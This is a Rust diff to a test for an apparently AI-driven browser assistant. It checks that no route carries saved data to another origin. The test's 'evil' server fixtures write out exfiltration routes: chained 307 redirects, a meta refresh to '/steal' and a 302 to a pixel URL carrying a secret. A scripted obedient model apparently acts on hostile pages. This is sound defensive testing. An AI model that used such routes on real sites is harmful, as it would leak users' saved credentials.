@@ -16,7 +16,7 @@ use clef_browser::assistant::KeyringVault;
 use clef_browser::policies::Policies;
 use clef_tests::server::{Route, TestServer};
 
-use crate::acting::{ObedientModel, origin, profile, run_task};
+use crate::acting::{ObedientModel, origin, profile, run_task, secret};
 use crate::agent_loop::{ScriptedModel, Step, click, say, type_into};
 use crate::check;
 use crate::harness::Ctx;
@@ -99,14 +99,6 @@ fn obedient_plan() -> Vec<Step> {
     ]
 }
 
-fn secret() -> String {
-    let nanos = std::time::SystemTime::now()
-        .duration_since(std::time::UNIX_EPOCH)
-        .map(|elapsed| elapsed.subsec_nanos())
-        .unwrap_or(7);
-    format!("Guard-{}-{nanos}", std::process::id())
-}
-
 pub fn no_route_takes_saved_data_to_another_origin(ctx: &Ctx) -> anyhow::Result<()> {
     let evil = TestServer::start([
         (
@@ -121,32 +113,32 @@ pub fn no_route_takes_saved_data_to_another_origin(ctx: &Ctx) -> anyhow::Result<
         ("/hop1".into(), Route::redirect(307, "/hop2")),
         (
             "/hop2".into(),
-            Route::redirect(307, format!("{}/collect", origin_of(&evil))),
+            Route::redirect(307, format!("{}/collect", origin(&evil))),
         ),
         (
             "/refresh".into(),
             Route::html(format!(
                 "<meta http-equiv=refresh content=\"0; url={}/steal\"><title>Wait</title>",
-                origin_of(&evil)
+                origin(&evil)
             )),
         ),
         (
             "/fwd".into(),
-            Route::redirect(302, format!("{}/pixel?p={secret}", origin_of(&evil))),
+            Route::redirect(302, format!("{}/pixel?p={secret}", origin(&evil))),
         ),
         (
             "/away".into(),
-            Route::redirect(302, format!("{}/landing", origin_of(&evil))),
+            Route::redirect(302, format!("{}/landing", origin(&evil))),
         ),
         (
             "/away-page".into(),
-            Route::html(account_page(&origin_of(&evil), AWAY)),
+            Route::html(account_page(&origin(&evil), AWAY)),
         ),
     ];
     for (index, (_, script)) in ROUTES.iter().enumerate() {
         routes.push((
             format!("/route{index}"),
-            Route::html(account_page(&origin_of(&evil), script)),
+            Route::html(account_page(&origin(&evil), script)),
         ));
     }
     let server = TestServer::start(routes)?;
@@ -217,10 +209,6 @@ pub fn no_route_takes_saved_data_to_another_origin(ctx: &Ctx) -> anyhow::Result<
         evil.targets()
     );
     Ok(())
-}
-
-fn origin_of(server: &TestServer) -> String {
-    origin(server)
 }
 
 fn approved_policy(server: &TestServer) -> Policy {
